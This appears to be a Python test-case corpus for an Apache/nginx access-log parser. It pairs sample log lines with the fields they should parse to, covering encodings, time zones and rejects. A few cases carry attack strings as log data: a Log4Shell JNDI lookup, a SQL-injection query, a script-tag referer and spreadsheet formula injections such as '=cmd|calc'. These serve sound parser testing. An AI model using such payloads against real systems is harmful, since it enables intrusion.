"""Real-looking Apache and nginx lines with the outcome a user relies on, derived by hand.

Each ``LINES`` case is one log line (bytes, so raw Latin-1, Big5, NUL and CR can appear) with
either ``expect`` (hits columns that must hold exactly these values; ``ts`` is UTC as
``YYYY-MM-DD HH:MM:SS``, ``date`` the America/Lima date) or ``reject`` (the reason).
``CHUNKS`` cases are several lines at once, for line splitting and ordering.

``REFUSED_FORMATS`` are formats refused when compiled. Imported by tests/test_parse.py,
tests/test_formats.py and tests/test_parse_fuzz.py as ``tests.corpus.parse_cases``.
"""

COMBINED = "combined"
NGINX = "nginx"
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/120.0"

# A plain combined line and what it gives; most cases vary one thing from it.
BASE = (
    b'203.0.113.7 - ana [10/Mar/2022:10:15:32 -0500] "GET /login HTTP/1.1" 200 512 '
    b'"https://app.example.pe/" "' + UA.encode() + b'"'
)

LINES = [
    {
        "id": "long-literals-and-multibyte-stop",
        # literals longer than a word (" took=", "] request=") and a field ended by a
        # two-byte character (the UTF-8 "·" after the user) take the walk's general paths
        "fmt": '$remote_addr·$remote_user·[$time_local] request="$request" status=$status took=$request_time',
        "line": '198.51.100.4·ana·[10/Mar/2022:10:15:32 -0500] request="GET /x?y=1 HTTP/2.0" '
        "status=404 took=0.250".encode(),
        "expect": {
            "ts": "2022-03-10 15:15:32",
            "remote_addr": "198.51.100.4",
            "remote_user": "ana",
            "method": "GET",
            "path": "/x",
            "query": "y=1",
            "protocol": "HTTP/2.0",
            "status": 404,
            "request_time": 0.25,
        },
    },
    {
        "id": "combined-plain",
        "fmt": COMBINED,
        "line": BASE,
        "expect": {
            "ts": "2022-03-10 15:15:32",
            "date": "2022-03-10",
            "remote_addr": "203.0.113.7",
            "remote_user": "ana",
            "method": "GET",
            "uri": "/login",
            "path": "/login",
            "query": None,
            "protocol": "HTTP/1.1",
            "status": 200,
            "bytes": 512,
            "referer": "https://app.example.pe/",
            "user_agent": UA,
            "host": None,
            "request_time": None,
        },
    },
    {
        "id": "query-string-split",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [10/Mar/2022:10:15:32 -0500] "GET /descargas/a.pdf?v=2&x=%20y '
        b'HTTP/1.1" 200 10 "-" "-"',
        "expect": {
            "path": "/descargas/a.pdf",
            "query": "v=2&x=%20y",
            "uri": "/descargas/a.pdf?v=2&x=%20y",
            "remote_user": None,
            "referer": None,
            "user_agent": None,
        },
    },
    {
        "id": "empty-query",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [10/Mar/2022:10:15:32 -0500] "GET /a? HTTP/1.1" 200 1 "-" "-"',
        "expect": {"path": "/a", "query": ""},
    },
    {
        "id": "apache-escaped-quotes-in-request-and-ua",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [10/Mar/2022:10:15:32 -0500] "GET /buscar?q=\\"casa\\" HTTP/1.1" '
        b'200 5 "-" "Bot \\"quoted\\" back\\\\slash"',
        "expect": {
            "uri": '/buscar?q="casa"',
            "query": 'q="casa"',
            "user_agent": 'Bot "quoted" back\\slash',
            "status": 200,
        },
    },
    {
        "id": "nginx-hex-escapes-utf8",
        "fmt": NGINX,
        "line": b'10.0.0.2 - - [10/Mar/2022:10:15:32 -0500] "GET /caf\\xC3\\xA9 HTTP/1.1" 200 5 '
        b'"-" "\\x22Se\\xC3\\xB1or\\x22 \\x5Cbot"',
        "expect": {"uri": "/café", "path": "/café", "user_agent": '"Señor" \\bot'},
    },
    {
        "id": "nginx-hex-escapes-not-utf8-stay-escaped",
        "fmt": NGINX,
        "line": b'10.0.0.2 - - [10/Mar/2022:10:15:32 -0500] "GET /p\\xE9rez HTTP/1.1" 200 5 '
        b'"-" "-"',
        "expect": {"uri": "/p\\xE9rez", "path": "/p\\xE9rez"},
    },
    {
        "id": "raw-latin1-byte-reads-like-nginx-escape",
        "fmt": NGINX,
        "line": b'10.0.0.2 - - [10/Mar/2022:10:15:32 -0500] "GET /p\xe9rez HTTP/1.1" 200 5 '
        b'"-" "Mozilla \xe9"',
        "expect": {"uri": "/p\\xE9rez", "user_agent": "Mozilla \\xE9"},
    },
    {
        "id": "raw-big5-path",
        "fmt": "vhost_combined",
        # 中文 in Big5 is A4 A4 A4 E5: not UTF-8, kept byte for byte as \xHH text
        "line": b"www.example.com 1.2.3.4 - theuser [10/Feb/2012:16:42:07 -0500] "
        b'"GET /\xa4\xa4\xa4\xe5 HTTP/1.0" 301 368 "-" "Mozilla/5.0"',
        "expect": {
            "host": "www.example.com",
            "path": "/\\xA4\\xA4\\xA4\\xE5",
            "remote_user": "theuser",
            "ts": "2012-02-10 21:42:07",
            "status": 301,
        },
    },
    {
        "id": "tls-handshake-on-http-port",
        "fmt": NGINX,
        "line": b"198.51.100.4 - - [10/Mar/2022:03:01:02 -0500] "
        b'"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03" 400 157 "-" "-"',
        "expect": {
            "method": None,
            "path": None,
            "query": None,
            "protocol": None,
            "uri": "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03",
            "status": 400,
            "bytes": 157,
        },
    },
    {
        "id": "dash-request-400",
        "fmt": NGINX,
        "line": b'198.51.100.4 - - [10/Mar/2022:03:01:02 -0500] "-" 400 0 "-" "-"',
        "expect": {
            "method": None,
            "uri": None,
            "path": None,
            "protocol": None,
            "status": 400,
            "bytes": 0,
        },
    },
    {
        "id": "dash-request-408-dash-bytes",
        "fmt": COMBINED,
        "line": b'198.51.100.4 - - [10/Mar/2022:03:01:02 -0500] "-" 408 - "-" "-"',
        "expect": {"method": None, "uri": None, "status": 408, "bytes": None},
    },
    {
        "id": "dash-status-and-bytes",
        "fmt": COMBINED,
        "line": b'198.51.100.4 - - [10/Mar/2022:03:01:02 -0500] "GET / HTTP/1.1" - - "-" "-"',
        "expect": {"status": None, "bytes": None, "method": "GET"},
    },
    {
        "id": "http2-request",
        "fmt": NGINX,
        "line": b'10.0.0.3 - - [10/Mar/2022:10:15:32 -0500] "GET /api/reportes/vigentes HTTP/2.0" '
        b'200 99 "-" "-"',
        "expect": {"method": "GET", "path": "/api/reportes/vigentes", "protocol": "HTTP/2.0"},
    },
    {
        "id": "http2-preface",
        "fmt": NGINX,
        "line": b'10.0.0.3 - - [10/Mar/2022:10:15:32 -0500] "PRI * HTTP/2.0" 400 0 "-" "-"',
        "expect": {"method": "PRI", "uri": "*", "path": "*", "protocol": "HTTP/2.0", "status": 400},
    },
    {
        "id": "http09-no-protocol",
        "fmt": COMBINED,
        "line": b'10.0.0.3 - - [10/Mar/2022:10:15:32 -0500] "GET /x" 200 3 "-" "-"',
        "expect": {"method": "GET", "uri": "/x", "protocol": None},
    },
    {
        "id": "space-inside-target-kept",
        "fmt": COMBINED,
        "line": b'10.0.0.3 - - [10/Mar/2022:10:15:32 -0500] "GET /a b HTTP/1.1" 400 3 "-" "-"',
        "expect": {"method": "GET", "uri": "/a b", "protocol": "HTTP/1.1"},
    },
    {
        "id": "junk-request-without-space",
        "fmt": COMBINED,
        "line": b'10.0.0.3 - - [10/Mar/2022:10:15:32 -0500] "hello" 400 3 "-" "-"',
        "expect": {"method": None, "uri": "hello", "path": None, "protocol": None},
    },
    {
        "id": "ipv6-client",
        "fmt": NGINX,
        "line": b'2001:db8:85a3::8a2e:370:7334 - - [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" '
        b'200 1 "-" "-"',
        "expect": {"remote_addr": "2001:db8:85a3::8a2e:370:7334"},
    },
    {
        "id": "x-forwarded-for-list",
        "fmt": "nginx_main",
        "line": b'10.0.0.1 - - [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" 200 1 "-" "-" '
        b'"203.0.113.9, 198.51.100.2, 10.0.0.1"',
        "expect": {
            "req_x_forwarded_for": "203.0.113.9, 198.51.100.2, 10.0.0.1",
            "remote_addr": "10.0.0.1",
        },
    },
    {
        "id": "multi-kilobyte-url",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [10/Mar/2022:10:15:32 -0500] "GET /buscar?q='
        + b"a" * 6000
        + b' HTTP/1.1" 414 0 "-" "-"',
        "expect": {"path": "/buscar", "query": "q=" + "a" * 6000, "status": 414},
    },
    {
        "id": "nul-run-in-user-agent",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" 200 1 "-" '
        b'"x\x00\x00\x00y"',
        "expect": {"user_agent": "x\\x00\\x00\\x00y"},
    },
    {
        "id": "nul-only-line",
        "fmt": COMBINED,
        "line": b"\x00" * 40,
        "reject": "does not match format",
    },
    {
        "id": "u2028-inside-user-agent-is-not-a-line-break",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" 200 1 "-" '
        b'"a\xe2\x80\xa8b"',
        "expect": {"user_agent": "a\u2028b"},
    },
    {
        "id": "next-line-char-inside-user-agent",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" 200 1 "-" '
        b'"a\xc2\x85b"',
        "expect": {"user_agent": "a\x85b"},
    },
    {
        "id": "raw-x85-byte-inside-user-agent",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" 200 1 "-" "a\x85b"',
        "expect": {"user_agent": "a\\x85b"},
    },
    {
        "id": "offset-plus-0530",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [11/Mar/2022:08:00:00 +0530] "GET / HTTP/1.1" 200 1 "-" "-"',
        "expect": {"ts": "2022-03-11 02:30:00", "date": "2022-03-10"},
    },
    {
        "id": "offset-minus-0000",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [11/Mar/2022:04:59:59 -0000] "GET / HTTP/1.1" 200 1 "-" "-"',
        "expect": {"ts": "2022-03-11 04:59:59", "date": "2022-03-10"},
    },
    {
        "id": "offset-dst-edt",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [10/Jul/2022:12:00:00 -0400] "GET / HTTP/1.1" 200 1 "-" "-"',
        "expect": {"ts": "2022-07-10 16:00:00", "date": "2022-07-10"},
    },
    {
        "id": "lima-own-dst-1994",
        "fmt": COMBINED,
        # Peru kept UTC-4 from 1 Jan to 1 Apr 1994: 04:30 UTC is 00:30 local, on the 16th
        "line": b'10.0.0.1 - - [16/Feb/1994:04:30:00 +0000] "GET / HTTP/1.0" 200 1 "-" "-"',
        "expect": {"ts": "1994-02-16 04:30:00", "date": "1994-02-16"},
    },
    {
        "id": "lima-midnight-boundary",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [31/Mar/2022:23:59:59 -0500] "GET / HTTP/1.1" 200 1 "-" "-"',
        "expect": {"ts": "2022-04-01 04:59:59", "date": "2022-03-31"},
    },
    {
        "id": "leap-day",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [29/Feb/2024:12:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-"',
        "expect": {"ts": "2024-02-29 12:00:00"},
    },
    {
        "id": "no-leap-day",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [29/Feb/2023:12:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-"',
        "reject": "bad timestamp",
    },
    {
        "id": "garbled-timestamp",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [10/Mrz/2022:12:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-"',
        "reject": "bad timestamp",
    },
    {
        "id": "status-out-of-range",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [10/Mar/2022:12:00:00 +0000] "GET / HTTP/1.1" 2000 1 "-" "-"',
        "reject": "bad status",
    },
    {
        "id": "status-not-a-number",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [10/Mar/2022:12:00:00 +0000] "GET / HTTP/1.1" OK 1 "-" "-"',
        "reject": "does not match format",
    },
    {
        "id": "log4shell-probe",
        "fmt": COMBINED,
        "line": b'45.0.0.9 - - [10/Mar/2022:12:00:00 +0000] "GET /${jndi:ldap://x.example/a} '
        b'HTTP/1.1" 404 0 "${jndi:ldap://x.example/r}" "${jndi:ldap://x.example/u}"',
        "expect": {
            "path": "/${jndi:ldap://x.example/a}",
            "referer": "${jndi:ldap://x.example/r}",
            "user_agent": "${jndi:ldap://x.example/u}",
        },
    },
    {
        "id": "sql-injection",
        "fmt": COMBINED,
        "line": b"45.0.0.9 - - [10/Mar/2022:12:00:00 +0000] \"GET /item?id=1'%20OR%20'1'='1 "
        b'HTTP/1.1" 500 0 "-" "sqlmap/1.6"',
        "expect": {"path": "/item", "query": "id=1'%20OR%20'1'='1", "user_agent": "sqlmap/1.6"},
    },
    {
        "id": "script-tag-in-referer",
        "fmt": COMBINED,
        "line": b'45.0.0.9 - - [10/Mar/2022:12:00:00 +0000] "GET / HTTP/1.1" 200 1 '
        b'"<script>alert(1)</script>" "-"',
        "expect": {"referer": "<script>alert(1)</script>"},
    },
    {
        "id": "spreadsheet-formula-in-user-agent",
        "fmt": COMBINED,
        "line": b'45.0.0.9 - - [10/Mar/2022:12:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" '
        b'"=HYPERLINK(\\"http://evil.example\\",\\"x\\")"',
        "expect": {"user_agent": '=HYPERLINK("http://evil.example","x")'},
    },
    {
        "id": "formula-as-user-name",
        "fmt": COMBINED,
        "line": b'45.0.0.9 - =cmd|calc [10/Mar/2022:12:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-"',
        "expect": {"remote_user": "=cmd|calc"},
    },
    {
        "id": "glued-lines-are-one-reject",
        "fmt": COMBINED,
        "line": BASE + BASE,
        "reject": "does not match format",
    },
    {
        "id": "user-agent-cut-before-closing-quote-is-kept",
        "fmt": COMBINED,
        "line": b'46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /x HTTP/1.1" 200 235 "-" '
        b'"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html',
        "expect": {
            "user_agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html",
            "status": 200,
        },
    },
    {
        "id": "cut-user-agent-ending-in-dangling-escape",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [20/May/2015:12:05:17 +0000] "GET /x HTTP/1.1" 200 235 "-" "ab\\',
        "reject": "does not match format",
    },
    {
        "id": "unescaped-quote-inside-field",
        "fmt": COMBINED,
        "line": b'10.0.0.1 - - [20/May/2015:12:05:17 +0000] "GET /x HTTP/1.1" 200 235 "-" '
        b'"say "hi" now"',
        "reject": "does not match format",
    },
    {
        "id": "comment-line",
        "fmt": COMBINED,
        "line": b"# Request with invalid length should not error out",
        "reject": "does not match format",
    },
    {
        "id": "blank-line",
        "fmt": COMBINED,
        "line": b"",
        "reject": "empty line",
    },
    {
        "id": "whitespace-line",
        "fmt": COMBINED,
        "line": b" \t ",
        "reject": "empty line",
    },
    {
        "id": "common-has-no-referer",
        "fmt": "common",
        "line": b'1.2.3.4 - theuser [10/Feb/2012:16:42:07 -0500] "GET / HTTP/1.0" 301 368',
        "expect": {"referer": None, "user_agent": None, "status": 301, "bytes": 368},
    },
    {
        "id": "vhost-combined-with-port",
        "fmt": "vhost_combined",
        "line": b'app.example.pe:443 10.0.0.1 - - [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" '
        b'200 1 "-" "-"',
        "expect": {"host": "app.example.pe", "remote_addr": "10.0.0.1"},
    },
    {
        "id": "vhost-combined-without-port",
        "fmt": "vhost_combined",
        "line": b'app.example.pe 10.0.0.1 - - [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" '
        b'200 1 "-" "-"',
        "expect": {"host": "app.example.pe", "remote_addr": "10.0.0.1"},
    },
    {
        "id": "nginx-timed-with-request-time",
        "fmt": '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent '
        '"$http_referer" "$http_user_agent" $request_time $upstream_response_time',
        "line": b'10.0.0.1 - u1 [10/Mar/2022:10:15:32 -0500] "POST /login HTTP/1.1" 302 0 "-" '
        b'"-" 0.153 0.150',
        "expect": {"request_time": 0.153, "method": "POST", "status": 302},
    },
    {
        "id": "nginx-iso8601-and-host",
        "fmt": '$host $remote_addr [$time_iso8601] "$request" $status $bytes_sent',
        "line": b'app.example.pe 10.0.0.1 [2022-03-10T10:15:32-05:00] "GET / HTTP/1.1" 200 10',
        "expect": {"ts": "2022-03-10 15:15:32", "host": "app.example.pe", "bytes": 10},
    },
    {
        "id": "apache-microseconds-and-cookie",
        "fmt": '%h %l %u %t "%r" %>s %b %D "%{sid}C" "%{X-User}o"',
        "line": b'10.0.0.1 - - [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" 200 1 250000 '
        b'"abc123" "maria"',
        "expect": {"request_time": 0.25, "cookie_sid": "abc123", "resp_x_user": "maria"},
    },
    # --- Apache's own directives, as mod_log_config and mod_ssl document them ---------------
    {
        "id": "strftime-shorthands-F-and-R",
        # httpd writes %{…}t in its local time (the configured zone, Lima: UTC-5)
        "fmt": '%h %{%F %R:%S}t "%r" %>s %b',
        "line": b'10.0.0.1 2022-03-10 10:15:32 "GET /login HTTP/1.1" 200 5',
        "expect": {"ts": "2022-03-10 15:15:32", "date": "2022-03-10", "path": "/login"},
    },
    {
        "id": "strftime-seconds-since-the-epoch-are-an-instant",
        # 1646925332 s = 2022-03-10 15:15:32 UTC, whatever the server's zone
        "fmt": '%h %{%s}t "%r" %>s %b',
        "line": b'10.0.0.1 1646925332 "GET / HTTP/1.1" 200 5',
        "expect": {"ts": "2022-03-10 15:15:32", "date": "2022-03-10"},
    },
    {
        "id": "strftime-zone-name-utc",
        "fmt": '%h [%{%FT%T %Z}t] "%r" %>s %b',
        "line": b'10.0.0.1 [2022-03-10T15:15:32 UTC] "GET / HTTP/1.1" 200 5',
        "expect": {"ts": "2022-03-10 15:15:32"},
    },
    {
        "id": "strftime-zone-name-numeric",
        # glibc names zones without an abbreviation by their offset: Lima is "-05"
        "fmt": '%h [%{%FT%T %Z}t] "%r" %>s %b',
        "line": b'10.0.0.1 [2022-03-10T10:15:32 -05] "GET / HTTP/1.1" 200 5',
        "expect": {"ts": "2022-03-10 15:15:32"},
    },
    {
        "id": "strftime-zone-name-of-another-zone-is-a-bad-timestamp",
        # EST is not an abbreviation Lima uses: the instant cannot be known
        "fmt": '%h [%{%FT%T %Z}t] "%r" %>s %b',
        "line": b'10.0.0.1 [2022-03-10T10:15:32 EST] "GET / HTTP/1.1" 200 5',
        "reject": "bad timestamp",
    },
    {
        "id": "mod-ssl-request-log",
        # RHEL's stock ssl_request_log: %t %h %{SSL_PROTOCOL}x %{SSL_CIPHER}x "%r" %b
        "fmt": '%t %h %{SSL_PROTOCOL}x %{SSL_CIPHER}x "%r" %b',
        "line": b'[10/Mar/2022:10:15:32 -0500] 203.0.113.7 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 '
        b'"GET /login HTTP/1.1" 2326',
        "expect": {
            "ts": "2022-03-10 15:15:32",
            "remote_addr": "203.0.113.7",
            "method": "GET",
            "path": "/login",
            "bytes": 2326,
            "status": None,
        },
    },
    {
        "id": "time-begin-is-clf",
        "fmt": '%h %{begin}t "%r" %>s %b',
        "line": b'10.0.0.1 [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" 200 5',
        "expect": {"ts": "2022-03-10 15:15:32", "status": 200},
    },
    {
        "id": "time-end-is-clf",
        "fmt": '%h %{end}t "%r" %>s %b',
        "line": b'10.0.0.1 [10/Mar/2022:10:15:33 -0500] "GET / HTTP/1.1" 200 5',
        "expect": {"ts": "2022-03-10 15:15:33", "status": 200},
    },
    {
        "id": "time-empty-braces-is-clf",
        "fmt": '%h %{}t "%r" %>s %b',
        "line": b'10.0.0.1 [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" 200 5',
        "expect": {"ts": "2022-03-10 15:15:32"},
    },
    {
        "id": "time-end-with-strftime",
        "fmt": '%h [%{end:%d/%b/%Y:%H:%M:%S %z}t] "%r" %>s %b',
        "line": b'10.0.0.1 [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" 200 5',
        "expect": {"ts": "2022-03-10 15:15:32"},
    },
    {
        "id": "duration-unit-in-capitals",
        # httpd reads %{UNIT}T's unit case-insensitively: MS is milliseconds
        "fmt": '%h %t "%r" %>s %b %{MS}T',
        "line": b'10.0.0.1 [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" 200 5 250',
        "expect": {"request_time": 0.25},
    },
    {
        "id": "empty-user-name-written-as-two-quotes",
        # httpd logs an authenticated but empty user name as ""
        "fmt": "common",
        "line": b'10.0.0.1 - "" [10/Mar/2022:10:15:32 -0500] "GET / HTTP/1.1" 401 5',
        "expect": {"remote_user": "", "status": 401},
    },
    {
        "id": "conditional-request-does-not-hide-the-request",
        # %400r writes "-" unless the status is 400; the unconditional %r gives the request
        "fmt": '%h %t "%400r" "%r" %>s %b',
        "line": b'10.0.0.1 [10/Mar/2022:10:15:32 -0500] "-" "GET /x?y=1 HTTP/1.1" 200 5',
        "expect": {"method": "GET", "path": "/x", "query": "y=1", "protocol": "HTTP/1.1"},
    },
    {
        "id": "conditional-request-on-its-status",
        "fmt": '%h %t "%400r" "%r" %>s %b',
        "line": b'10.0.0.1 [10/Mar/2022:10:15:32 -0500] "GET /bad HTTP/1.1" '
        b'"GET /bad HTTP/1.1" 400 5',
        "expect": {"method": "GET", "path": "/bad", "status": 400},
    },
]

# Whole chunks: line splitting, line endings and order.
CHUNKS = [
    {
        "id": "crlf-endings",
        "fmt": COMBINED,
        "data": BASE + b"\r\n" + BASE + b"\r\n",
        "lines": 2,
        "hits": 2,
        "rejects": [],
    },
    {
        "id": "cr-only-endings-are-one-line",
        "fmt": COMBINED,
        "data": BASE + b"\r" + BASE + b"\r" + BASE + b"\r",
        "lines": 1,
        "hits": 0,
        "rejects": [(1, "does not match format")],
    },
    {
        "id": "final-line-without-newline-counts",
        "fmt": COMBINED,
        "data": BASE + b"\n" + BASE,
        "lines": 2,
        "hits": 2,
        "rejects": [],
    },
    {
        "id": "empty-lines-between",
        "fmt": COMBINED,
        "data": b"\n" + BASE + b"\n\n" + BASE + b"\n",
        "lines": 4,
        "hits": 2,
        "rejects": [(1, "empty line"), (3, "empty line")],
    },
    {
        "id": "crlf-blank-line",
        "fmt": COMBINED,
        "data": BASE + b"\r\n\r\n",
        "lines": 2,
        "hits": 1,
        "rejects": [(2, "empty line")],
    },
]

# Formats httpd accepts but whose lines this tool could not read back: refused when the format
# is compiled, naming the directive (``token``), instead of rejecting every line later.
REFUSED_FORMATS = [
    {"id": "lone-percent-in-strftime", "fmt": '%h %{%}t "%r"', "token": "%{%}t"},
    {"id": "unknown-strftime-conversion", "fmt": '%h %{%d/%b/%Y %Q}t "%r"',
     "token": "%{%d/%b/%Y %Q}t"},
    {"id": "strftime-without-a-date", "fmt": '%h %{%H:%M:%S}t "%r"', "token": "%{%H:%M:%S}t"},
    {"id": "strftime-without-a-conversion", "fmt": '%h %{nothing}t "%r"',
     "token": "%{nothing}t"},
    {"id": "strftime-newline", "fmt": '%h %{%F%n%T}t "%r"', "token": "%{%F%n%T}t"},
    {"id": "unknown-duration-unit", "fmt": "%h %t %{fortnights}T", "token": "%{fortnights}T"},
]  # fmt: skip
